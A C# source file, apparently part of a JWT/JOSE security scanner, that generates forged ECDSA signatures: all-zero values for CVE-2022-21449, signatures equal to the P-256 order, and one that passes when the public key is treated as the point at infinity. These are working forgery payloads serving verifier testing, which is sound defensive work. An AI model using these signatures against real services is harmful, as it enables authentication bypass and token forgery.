using System;
using System.Globalization;
using System.Numerics;
using System.Security.Cryptography;

namespace Sallyport.Scan.Jose;

/// <summary>ECDSA signatures that no key made and that broken verifiers accept.</summary>
internal static class BrokenSignatures
{
    // FIPS 186-5 / SEC 2: orders and the x of the base points.
    private const string P256Order = "00ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551";
    private const string P256BaseX = "6b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296";

    /// <summary>The bytes of each of r and s for an algorithm; 32 for one that is none of ES.</summary>
    /// <param name="algorithm">The algorithm.</param>
    public static int PartLength(string algorithm) => algorithm switch { "ES384" => 48, "ES512" => 66, _ => 32 };

    /// <summary>r = s = 0 in the form of JOSE (CVE-2022-21449).</summary>
    /// <param name="algorithm">The algorithm.</param>
    public static byte[] Zero(string algorithm) => new byte[2 * PartLength(algorithm)];

    /// <summary>r = s = 0 in DER, as verifiers that pass the bytes on unchecked would read it.</summary>
    public static byte[] ZeroDer() => [0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00];

    /// <summary>r = s = n on P-256: zero for a verifier that reduces before it looks.</summary>
    public static byte[] Order()
    {
        byte[] n = Convert.FromHexString(P256Order.AsSpan(2));
        return [.. n, .. n];
    }

    /// <summary>A signature that holds on P-256 when the public key is taken for the point at infinity: r = x(G), s = hash.</summary>
    /// <param name="input">What is "signed".</param>
    /// <remarks>With u1 = hash/s = 1, u1·G + u2·Q is G for every u2 as long as Q adds nothing: a verifier that does not check that the key is a point of the curve accepts.</remarks>
    public static byte[] ForInfinity(byte[] input)
    {
        BigInteger order = BigInteger.Parse(P256Order, NumberStyles.HexNumber, CultureInfo.InvariantCulture);
        BigInteger hash = new BigInteger(SHA256.HashData(input), isUnsigned: true, isBigEndian: true) % order;
        byte[] s = new byte[32];
        byte[] written = hash.ToByteArray(isUnsigned: true, isBigEndian: true);
        written.CopyTo(s.AsSpan(32 - written.Length));
        return [.. Convert.FromHexString(P256BaseX), .. s];
    }
}
